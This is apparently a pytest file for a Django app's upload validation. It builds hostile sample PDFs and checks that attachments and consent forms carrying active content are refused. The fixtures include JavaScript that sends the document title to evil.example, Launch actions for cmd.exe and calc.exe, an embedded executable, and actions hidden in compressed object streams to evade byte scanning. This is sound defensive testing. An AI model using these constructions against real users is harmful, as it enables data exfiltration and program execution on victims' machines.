"""Attack 9: a PDF with active content (JavaScript, actions on opening, launching a program,
embedded files) uploaded as an attachment or a signed consent form is refused with a clear
message and nothing is stored — also when the names hide in a compressed object stream."""

import io
import struct
import zlib
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject

from opora.cases.models import Attachment
from opora.consents.models import Consent
from opora.consents.tests.test_consents_pages import _consent_post
from opora.core.testing.files import pdf_bytes

pytestmark = pytest.mark.django_db

ACTIVE = "obsahuje aktivní obsah"
UNREADABLE = "PDF nelze přečíst"


def _write(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    return writer


def _document_javascript() -> bytes:
    writer = _writer()
    writer.add_open_action(JavaScript("app.launchURL('https://evil.example/?c=' + this.info.Title)"))
    return _write(writer)


def _open_action() -> bytes:
    writer = _writer()
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")})
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _write(writer)


def _launch_link() -> bytes:
    writer = _writer()
    launch = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(595), FloatObject(842)]),
            NameObject("/A"): launch,
        }
    )
    writer.add_annotation(0, annotation)
    return _write(writer)


def _page_additional_action() -> bytes:
    writer = _writer()
    go_to = DictionaryObject({NameObject("/S"): NameObject("/GoTo"), NameObject("/D"): ArrayObject()})
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): go_to})
    return _write(writer)


def _embedded_file() -> bytes:
    writer = _writer()
    writer.add_attachment("faktura.exe", b"MZ\x90\x00")
    return _write(writer)


def _in_object_stream(catalog_extra: bytes = b"", extra_object: bytes | None = None) -> bytes:
    """A PDF 1.5 whose every object sits in one compressed object stream (with a compressed
    cross-reference stream): no name of them appears in the file's bytes."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>",
    ]
    if extra_object is not None:
        objects.append(extra_object)
    body, offsets = b"", []
    for obj in objects:
        offsets.append(len(body))
        body += obj + b"\n"
    header = b" ".join(b"%d %d" % (number, offset) for number, offset in enumerate(offsets, start=1)) + b"\n"
    packed = zlib.compress(header + body)
    stream_number, xref_number = len(objects) + 1, len(objects) + 2
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    stream_offset = out.tell()
    out.write(
        b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (stream_number, len(objects), len(header), len(packed))
    )
    out.write(packed + b"\nendstream\nendobj\n")
    xref_offset = out.tell()
    rows = [struct.pack(">BHH", 0, 0, 65535)]
    rows += [struct.pack(">BHH", 2, stream_number, index) for index in range(len(objects))]
    rows += [struct.pack(">BHH", 1, stream_offset, 0), struct.pack(">BHH", 1, xref_offset, 0)]
    xref = zlib.compress(b"".join(rows))
    out.write(
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 2 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, len(xref))
    )
    out.write(xref + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset)
    return out.getvalue()


def _hidden_open_action() -> bytes:
    data = _in_object_stream(b"/OpenAction 4 0 R", b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")
    assert b"OpenAction" not in data and b"JavaScript" not in data  # only a parser finds them
    return data


def _hidden_launch() -> bytes:
    data = _in_object_stream(b"/OpenAction 4 0 R", b"<< /S /Launch /F (calc.exe) >>")
    assert b"Launch" not in data
    return data


ACTIVE_PDFS = {
    "document JavaScript": _document_javascript,
    "open action": _open_action,
    "launch link": _launch_link,
    "page additional action": _page_additional_action,
    "embedded file": _embedded_file,
    "open action in an object stream": _hidden_open_action,
    "launch in an object stream": _hidden_launch,
}


def _stored_files() -> set[Path]:
    return {p for p in Path(settings.MEDIA_ROOT).rglob("*") if p.is_file()}


def _attach(client, world, data: bytes, name="zprava.pdf"):
    upload = SimpleUploadedFile(name, data, content_type="application/pdf")
    return client.post(reverse("cases:attachment_add", args=[world.case.pk]), {"file": upload})


@pytest.mark.parametrize("build", ACTIVE_PDFS.values(), ids=ACTIVE_PDFS.keys())
def test_an_attachment_pdf_with_active_content_is_refused_and_not_stored(client, login, world, build):
    login(client, world.members["case_manager"])
    before, files = Attachment.objects.count(), _stored_files()
    response = _attach(client, world, build())
    assert response.status_code == 200
    assert ACTIVE in response.content.decode()
    assert Attachment.objects.count() == before and _stored_files() == files


@pytest.mark.parametrize(
    ("name", "data"),
    [("zprava.pdf", b"%PDF-1.4 just a header"), ("poznamka.txt", b"%PDF-1.7\n1 0 obj << /S /JavaScript >>")],
    ids=["pdf", "pdf named txt"],
)
def test_a_file_claiming_to_be_a_pdf_that_cannot_be_parsed_is_refused(client, login, world, name, data):
    login(client, world.members["case_manager"])
    before = Attachment.objects.count()
    response = _attach(client, world, data, name=name)
    assert response.status_code == 200 and UNREADABLE in response.content.decode()
    assert Attachment.objects.count() == before


@pytest.mark.parametrize("data", [pdf_bytes(2), _in_object_stream()], ids=["plain", "object streams"])
def test_a_harmless_pdf_is_attached(client, login, world, data):
    login(client, world.members["case_manager"])
    before = Attachment.objects.count()
    assert _attach(client, world, data).status_code == 302
    assert Attachment.objects.count() == before + 1


def test_a_signed_consent_form_with_javascript_is_refused_too(client, login, world):
    login(client, world.members["case_manager"])
    before, files = Consent.objects.count(), _stored_files()
    upload = SimpleUploadedFile("souhlas.pdf", _hidden_open_action(), content_type="application/pdf")
    response = client.post(
        reverse("consents:consent_create", args=[world.case.pk]), {**_consent_post(world), "signed_form": upload}
    )
    assert response.status_code == 200 and ACTIVE in response.content.decode()
    assert Consent.objects.count() == before and _stored_files() == files


def test_a_pdf_the_app_itself_generated_with_links_and_fonts_is_accepted(client, login, world):
    from opora.core.pdf import html_to_pdf

    pdf = html_to_pdf('<h1>Zápis ze setkání</h1><p>Žluťoučký kůň <a href="https://example.cz">odkaz</a></p>')
    login(client, world.members["case_manager"])
    assert _attach(client, world, pdf, name="zapis.pdf").status_code == 302
